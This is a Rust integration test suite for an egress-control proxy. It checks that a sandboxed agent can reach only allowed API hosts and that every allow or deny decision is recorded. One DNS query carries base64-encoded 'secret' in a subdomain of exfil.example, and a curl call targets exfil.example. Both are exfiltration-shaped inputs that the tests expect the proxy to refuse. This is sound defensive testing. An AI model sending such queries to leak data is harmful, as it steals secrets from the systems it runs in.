//! Transparent (sidecar) mode, for real: an agent in its own network
//! namespace, iptables and ip6tables REDIRECT rules that exempt the proxy's
//! UID, the proxy inside as that UID, and origins on the host side of a veth
//! pair. The agent's tools (curl, the openai SDK) have no HTTPS_PROXY; the
//! only way out is through the proxy, and its DNS responder is the only
//! resolver they can reach.
#![allow(clippy::unwrap_used)]

use std::net::SocketAddr;
use std::process::Output;

use portcullis_tests::netns::{Netns, SidecarProxy};
use portcullis_tests::{
    ledger_records, sdk_python, sha256_hex, Origin, OriginPki, ADMIN_TOKEN, AGENT, TOKEN,
};

fn config(ns: &Netns, origin_ca: &str) -> String {
    let host = ns.host_v4;
    format!(
        r#"version = 1

[[listeners]]
name = "redirect4"
bind = "127.0.0.1:15001"
mode = "transparent"
agent = "{AGENT}"

[[listeners]]
name = "redirect6"
bind = "[::1]:15001"
mode = "transparent"
agent = "{AGENT}"

[dns]
bind = "127.0.0.1:15053"
agent = "{AGENT}"
ttl = 5

[admin]
bind = "127.0.0.1:0"
token_sha256 = "{admin}"
metrics_public = true

[ca]
dir = "ca"

[ledger]
dir = "ledger"

[upstream]
extra_ca = ["{origin_ca}"]
resolve = ["api.openai.com:443:{host}:443", "origin.test:80:{host}:80"]
connect_timeout = "3s"

[limits]
client_header_timeout = "3s"

[[tenants]]
id = "acme"

[[agents]]
id = "{AGENT}"
tenant = "acme"
token_sha256 = "{token}"

[[routes]]
id = "openai"
action = "allow"
tenants = ["acme"]
hosts = ["api.openai.com"]
paths = ["/v1/*"]
allow_private = ["10.201.0.0/16"]

[[routes]]
id = "plain-origin"
action = "allow"
tenants = ["acme"]
hosts = ["origin.test"]
ports = [80]
allow_plaintext = true
allow_private = ["10.201.0.0/16"]
"#,
        admin = sha256_hex(ADMIN_TOKEN),
        token = sha256_hex(TOKEN),
    )
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// curl inside the namespace, with no proxy settings at all.
fn curl(ns: &Netns, args: &[&str]) -> Output {
    ns.command("curl")
        .args(["-sS", "--max-time", "10", "--noproxy", "*"])
        .args(args)
        .env_remove("HTTPS_PROXY")
        .env_remove("HTTP_PROXY")
        .env_remove("https_proxy")
        .env_remove("http_proxy")
        .output()
        .unwrap()
}

/// A raw DNS query through the agent's resolver (port 53, redirected); the rcode.
const DNS_QUERY: &str = r#"
import socket, struct, sys
def ask(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (sys.argv[1], 53))
    r, _ = s.recvfrom(4096)
    rcode = r[3] & 0x0F
    ancount = struct.unpack(">H", r[6:8])[0]
    addr = ".".join(str(b) for b in r[-4:]) if ancount and qtype == 1 else "-"
    return f"{name} rcode={rcode} answers={ancount} addr={addr}"
for name in sys.argv[2:]:
    print(ask(name))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agents_with_no_proxy_setting_reach_allowed_origins_only_through_the_transparent_proxy() {
    let ns = Netns::create(11);
    let pki = OriginPki::new();
    let host = ns.host_v4;
    let origin = Origin::start_tls_on(&pki, SocketAddr::from((host, 443))).await;
    let plain = Origin::start_plain_on(SocketAddr::from((host, 80))).await;
    let dir = tempfile::tempdir().unwrap();
    let origin_ca = dir.path().join("origin-ca.pem");
    std::fs::copy(&pki.ca_pem_path, &origin_ca).unwrap();
    let proxy = SidecarProxy::start(
        &ns,
        dir.path(),
        &config(&ns, &origin_ca.display().to_string()),
    );
    ns.redirect_to_proxy();
    let ca = dir.path().join("ca/ca.pem");
    let ca = ca.to_str().unwrap().to_owned();

    let ns_ref = &ns;
    let (by_name, sdk, plain_http, dns, by_ip, wrong_addr, v6, fallback) =
        tokio::task::block_in_place(|| {
            // 1. By name: our DNS answers, the REDIRECT lands in the proxy, the
            //    SNI names an allowed host that resolves to where curl went.
            let by_name = curl(
                ns_ref,
                &[
                    "--cacert",
                    &ca,
                    "-w",
                    "\n%{http_code}",
                    "https://api.openai.com/v1/models",
                ],
            );
            // 2. The openai SDK, trusting the proxy CA, with no proxy configured.
            let script = format!(
                r#"
import httpx, openai
o = openai.OpenAI(api_key="sk-none", max_retries=0, http_client=httpx.Client(verify="{ca}", trust_env=False))
r = o.chat.completions.create(model="gpt-4o-mini", messages=[{{"role": "user", "content": "hi"}}])
print("openai:", r.choices[0].message.content)
"#
            );
            let sdk = ns_ref
                .command(sdk_python().to_str().unwrap())
                .arg("-c")
                .arg(&script)
                .env_remove("HTTPS_PROXY")
                .env_remove("https_proxy")
                .output()
                .unwrap();
            // 3. Plain HTTP on port 80: the Host header names the target.
            let plain_http = curl(ns_ref, &["-w", "\n%{http_code}", "http://origin.test/echo"]);
            // 4. DNS: an allowed name, an exfiltration-shaped one, and one no route names.
            let dns = ns_ref
                .command(sdk_python().to_str().unwrap())
                .args(["-c", DNS_QUERY, &host.to_string()])
                .args([
                    "api.openai.com",
                    "c2VjcmV0.exfil.example",
                    "www.example.org",
                ])
                .output()
                .unwrap();
            // 5. Straight to the origin's address, no name: no SNI, so refused.
            let by_ip = curl(
                ns_ref,
                &[
                    "-k",
                    "-w",
                    "\n%{http_code}",
                    &format!("https://{host}/v1/models"),
                ],
            );
            // 6. An allowed name pointed at another address: the name does not
            //    resolve there, so refused.
            let other = std::net::Ipv4Addr::new(10, 201, 11, 3);
            let wrong_addr = curl(
                ns_ref,
                &[
                    "--cacert",
                    &ca,
                    "--resolve",
                    &format!("api.openai.com:443:{other}"),
                    "https://api.openai.com/v1/models",
                ],
            );
            // 7. IPv6 is redirected too, and the name has no v6 address.
            let v6 = curl(
                ns_ref,
                &[
                    "--cacert",
                    &ca,
                    "-6",
                    "--resolve",
                    &format!("api.openai.com:443:[{}]", ns_ref.host_v6),
                    "https://api.openai.com/v1/models",
                ],
            );
            // 8. A name no route allows does not even resolve.
            let fallback = curl(ns_ref, &["https://exfil.example/"]);
            (
                by_name, sdk, plain_http, dns, by_ip, wrong_addr, v6, fallback,
            )
        });

    let log = proxy.log();
    assert!(by_name.status.success(), "{}\n{log}", text(&by_name));
    assert!(
        String::from_utf8_lossy(&by_name.stdout).ends_with("\n200"),
        "{}",
        text(&by_name)
    );
    assert!(sdk.status.success(), "{}\n{log}", text(&sdk));
    assert!(
        String::from_utf8_lossy(&sdk.stdout).contains("openai: Hello from the origin"),
        "{}",
        text(&sdk)
    );
    assert!(
        String::from_utf8_lossy(&plain_http.stdout).ends_with("\n200"),
        "{}\n{log}",
        text(&plain_http)
    );

    let dns_out = String::from_utf8_lossy(&dns.stdout).into_owned();
    assert!(dns.status.success(), "{}", text(&dns));
    assert!(
        dns_out.contains(&format!("api.openai.com rcode=0 answers=1 addr={host}")),
        "{dns_out}"
    );
    assert!(
        dns_out.contains("c2VjcmV0.exfil.example rcode=5 answers=0"),
        "{dns_out}"
    );
    assert!(
        dns_out.contains("www.example.org rcode=5 answers=0"),
        "{dns_out}"
    );

    assert!(!by_ip.status.success(), "{}", text(&by_ip));
    assert!(!wrong_addr.status.success(), "{}", text(&wrong_addr));
    assert!(!v6.status.success(), "{}", text(&v6));
    assert_eq!(
        fallback.status.code(),
        Some(6),
        "could not resolve: {}",
        text(&fallback)
    );

    // The origins saw exactly what was allowed.
    let seen: Vec<String> = origin
        .seen()
        .iter()
        .map(|s| format!("{} {}", s.method, s.path))
        .collect();
    assert_eq!(
        seen,
        ["GET /v1/models", "POST /v1/chat/completions"],
        "{log}"
    );
    assert_eq!(plain.seen().len(), 1);

    // The DNS refusals are counted.
    let metrics = ns
        .command("curl")
        .args(["-sS", &format!("http://{}/metrics", proxy.admin)])
        .output()
        .unwrap();
    let metrics = String::from_utf8_lossy(&metrics.stdout).into_owned();
    let refused: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("portcullis_dns_queries_total{result=\"refused\"} "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no refused DNS count: {metrics}"));
    assert!(refused >= 2, "{metrics}");

    let status = proxy.terminate();
    assert!(status.success(), "proxy exit: {status:?}");
    let records = ledger_records(&dir.path().join("ledger"));
    let decisions: Vec<(String, String, String, String)> = records
        .iter()
        .filter(|r| r["kind"] == "decision")
        .map(|r| {
            (
                r["listener"].as_str().unwrap_or("").to_owned(),
                r["dest_host"].as_str().unwrap_or("").to_owned(),
                r["decision"].as_str().unwrap_or("").to_owned(),
                r["reason"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    let has = |listener: &str, host: &str, decision: &str, reason: &str| {
        decisions
            .iter()
            .any(|d| d.0 == listener && d.1 == host && d.2 == decision && d.3 == reason)
    };
    assert!(
        has("redirect4", "api.openai.com", "allow", "route_allow"),
        "{decisions:?}"
    );
    assert!(
        has("dns", "c2vjcmv0.exfil.example", "deny", "no_route"),
        "{decisions:?}"
    );
    assert!(
        has("redirect4", &host.to_string(), "deny", "bad_request"),
        "no SNI: {decisions:?}"
    );
    assert!(
        has("redirect4", "api.openai.com", "deny", "host_mismatch"),
        "{decisions:?}"
    );
    assert!(
        has("redirect6", "api.openai.com", "deny", "host_mismatch"),
        "{decisions:?}"
    );
    let verify = std::process::Command::new(portcullis_tests::portcullis_bin())
        .args(["ledger", "verify"])
        .arg(dir.path().join("ledger"))
        .output()
        .unwrap();
    assert!(verify.status.success(), "{}", text(&verify));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn source_addresses_name_the_agent_and_a_passthrough_route_splices_the_replayed_hello() {
    let ns = Netns::create(12);
    let pki = OriginPki::new();
    let host = ns.host_v4;
    let origin = Origin::start_tls_on(&pki, SocketAddr::from((host, 443))).await;
    let dir = tempfile::tempdir().unwrap();
    let origin_ca = dir.path().join("origin-ca.pem");
    std::fs::copy(&pki.ca_pem_path, &origin_ca).unwrap();
    let agent_src = ns.agent_v4;
    let cfg = config(&ns, &origin_ca.display().to_string())
        .replacen(
            &format!("mode = \"transparent\"\nagent = \"{AGENT}\""),
            &format!(
                "mode = \"transparent\"\nsources = [{{ cidr = \"{agent_src}/32\", agent = \"{AGENT}\" }}]"
            ),
            1,
        )
        .replace(
            "resolve = [",
            &format!("resolve = [\"api.anthropic.com:443:{host}:443\", "),
        )
        + r#"
[[routes]]
id = "anthropic-spliced"
action = "allow"
tenants = ["acme"]
hosts = ["api.anthropic.com"]
mode = "passthrough"
allow_private = ["10.201.0.0/16"]
"#;
    assert!(cfg.contains("sources = ["), "{cfg}");
    let proxy = SidecarProxy::start(&ns, dir.path(), &cfg);
    ns.redirect_to_proxy();
    // A second address in the agent's namespace that no `sources` entry maps.
    let stranger = std::net::Ipv4Addr::new(10, 201, 12, 5);
    let mut add = ns.command("ip");
    add.args(["addr", "add", &format!("{stranger}/24"), "dev", "pca12"]);
    assert!(add.status().unwrap().success());

    let ca = dir.path().join("ca/ca.pem").display().to_string();
    let origin_ca_s = origin_ca.display().to_string();
    let (mapped, spliced, unmapped) = tokio::task::block_in_place(|| {
        let mapped = curl(&ns, &["--cacert", &ca, "https://api.openai.com/v1/models"]);
        // Passthrough: the agent talks TLS with the origin itself, so it
        // trusts the origin's CA, not ours.
        let spliced = curl(
            &ns,
            &[
                "--cacert",
                &origin_ca_s,
                "https://api.anthropic.com/v1/messages",
            ],
        );
        let unmapped = curl(
            &ns,
            &[
                "--cacert",
                &ca,
                "--interface",
                &stranger.to_string(),
                "https://api.openai.com/v1/models",
            ],
        );
        (mapped, spliced, unmapped)
    });
    let log = proxy.log();
    assert!(mapped.status.success(), "{}\n{log}", text(&mapped));
    assert!(spliced.status.success(), "{}\n{log}", text(&spliced));
    assert!(
        String::from_utf8_lossy(&spliced.stdout).contains("origin saw GET /v1/messages"),
        "{}",
        text(&spliced)
    );
    assert!(!unmapped.status.success(), "{}", text(&unmapped));
    assert_eq!(origin.seen().len(), 2, "{log}");

    assert!(proxy.terminate().success());
    let records = ledger_records(&dir.path().join("ledger"));
    let spliced_rec = records
        .iter()
        .find(|r| r["kind"] == "decision" && r["dest_host"] == "api.anthropic.com")
        .expect("a decision for the spliced connection");
    assert_eq!(spliced_rec["rule_id"], "anthropic-spliced");
    let id = spliced_rec["event_id"].clone();
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "outcome" && r["event_id"] == id && r["end"] == "complete"),
        "the splice's outcome is recorded: {records:?}"
    );
    assert!(
        records.iter().any(|r| r["kind"] == "decision"
            && r["listener"] == "redirect4"
            && r["reason"] == "auth_failed"
            && r.get("agent").is_none()),
        "an unmapped source is refused: {records:?}"
    );
}
